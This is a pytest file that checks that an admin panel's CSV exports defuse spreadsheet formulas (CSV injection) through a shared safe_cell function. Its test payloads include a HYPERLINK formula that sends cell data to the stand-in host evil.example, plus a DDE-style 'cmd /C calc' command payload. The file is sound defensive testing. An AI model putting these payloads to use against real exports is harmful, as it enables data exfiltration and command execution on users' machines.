"""CSV exports of the panel defuse spreadsheet formulas (CSV injection) through one shared function."""
from __future__ import annotations

import csv
import io

from admin.exports import FORMULA_PREFIXES, SafeExportMixin, safe_cell
from chatops import audit

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "\n=1+1", "\uff1dSUM(1)"]


def rows(resp) -> list[list[str]]:
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True))))


def assert_defused(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), f"formula cell {cell!r} in {row}"


def test_the_audit_export_defuses_chat_text(panel):
    client = panel.login("vic", "viewer")
    for i, payload in enumerate(PAYLOADS):
        audit.record(correlation_id=f"c{i}", actor=payload, command=payload[:64], outcome="allowed",
                     arguments={"text": payload}, detail=payload, community=payload[:64])
    table = rows(client.get("/admin/audit_event/export/csv/"))
    assert len(table) == 1 + len(PAYLOADS) + 2  # and the panel's own events: vic created, vic signed in
    assert_defused(table)
    body = [cell for row in table[1:] for cell in row]
    assert "'" + PAYLOADS[0] in body and "'@SUM(A1)" in body  # kept, as text
    seqs = [row[table[0].index("Seq")] for row in table[1:]]
    assert all(s.isdigit() for s in seqs)  # numbers stay numbers


def test_every_exporting_view_uses_the_shared_function(panel):
    views = panel.app.extensions["admin"][0]._views
    exporting = [v for v in views if getattr(v, "can_export", False)]
    assert exporting, "no view exports: the test would prove nothing"
    for view in exporting:
        assert isinstance(view, SafeExportMixin), view
        assert set(view.export_types) == {"csv"}, view
    # Any model view that turns exports on goes through it too (they all derive from AuditedModelView).
    from admin.auditing import AuditedModelView

    model_views = [v for v in views if isinstance(v, AuditedModelView)]
    assert model_views and all(isinstance(v, SafeExportMixin) for v in model_views)


def test_a_model_view_export_defuses_too(panel):
    client = panel.login("vic", "viewer")
    view = next(v for v in panel.app.extensions["admin"][0]._views if v.endpoint == "person")
    view.allow_export = True
    try:
        for payload in PAYLOADS:
            panel.runner.person(payload)
        table = rows(client.get("/admin/person/export/csv/"))
    finally:
        view.allow_export = False
    assert len(table) == 1 + len(PAYLOADS)
    assert_defused(table)


def test_safe_cell():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("plain text") == "plain text"
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None and safe_cell(True) is True
    assert safe_cell("") == ""
